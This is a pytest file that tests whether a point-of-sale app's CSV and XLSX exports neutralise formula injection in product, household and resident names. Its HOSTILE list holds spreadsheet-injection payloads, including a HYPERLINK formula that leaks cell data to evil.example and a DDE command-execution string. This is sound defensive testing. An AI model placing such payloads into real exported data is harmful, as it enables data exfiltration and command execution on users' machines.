"""Exports never hand a spreadsheet a formula: a product, household or resident named like one is
written as text (CSV: a leading apostrophe; XLSX: a text cell), and numbers stay numbers."""

from __future__ import annotations

import csv
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from pos_app.bootstrap import Services
from pos_app.cli import main
from pos_app.importing.catalog import ProductInput
from pos_app.importing.households import HouseholdInput
from pos_app.importing.tabular import csv_safe, read_fields, write_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_that_begins_like_a_formula_is_written_as_text(name: str) -> None:
    assert csv_safe(name) == "'" + name


@pytest.mark.parametrize("value", [12, -3, 0, "-12.50", "+86", "12", "鸡蛋", "a=b", ""])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert csv_safe(value) == value


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _xlsx_has_no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in z.read(n) and b"<f " not in z.read(n) for n in sheets)


def test_hostile_names_leave_every_export_as_text(stocked: Services, db_path: Path, tmp_path: Path) -> None:
    products = [ProductInput(name, "件", 100 + i, (), "测试", plu=2001 + i) for i, name in enumerate(HOSTILE)]
    stocked.catalog.upsert(products, source="test")
    stocked.households.upsert([HouseholdInput(f"H-{i}", name, "=村") for i, name in enumerate(HOSTILE)])
    stocked.users.create("volunteer", "李阿姨", ["volunteer"], "2222")
    millet = stocked.catalog.by_code("6920000000012")
    assert millet is not None
    vol = stocked.users.authenticate("volunteer", "2222")
    for i, name in enumerate(HOSTILE):
        stocked.residents.add_resident(f"R-{i}", name, ["13800001234"], compound="=A1")
        stocked.deliveries.create_order(f"R-{i}", [(millet.id, 1)], day=date(2026, 11, 21), slot="上午", by=vol)
    db = str(db_path)
    for what in ("products", "households", "deliveries"):
        for suffix in (".csv", ".xlsx"):
            out = tmp_path / f"{what}{suffix}"
            assert main(["--db", db, "export", what, "--out", str(out)]) == 0
            if suffix == ".csv":
                cells = [c for row in _csv_cells(out) for c in row]
                assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
                assert sum(c.startswith("'=HYPERLINK") for c in cells) == 1, what
            else:
                _xlsx_has_no_formula(out)
                ws = load_workbook(out).worksheets[0]
                texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
                assert any(t.startswith("=HYPERLINK") for t in texts), what  # the name as it is, as text
                assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_prices_stay_numbers_in_xlsx_and_a_round_trip_keeps_the_name(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    write_table(out, ("名称", "价格"), [("=1+2", 12.5), ("鸡蛋", -3)])
    ws = load_workbook(out).worksheets[0]
    assert [c.value for c in ws[2]] == ["=1+2", 12.5] and ws["A2"].data_type == "s" and ws["B2"].data_type == "n"
    back = tmp_path / "t.csv"
    write_table(back, ("name", "price"), [("=1+2", "12.50")])
    assert _csv_cells(back)[1] == ["'=1+2", "12.50"]
    rows = list(read_fields(back, {"name": ("name",), "price": ("price",)}, ["name"]))
    assert rows[0][1]["name"] == "=1+2"  # what the export neutralised is read back as it was
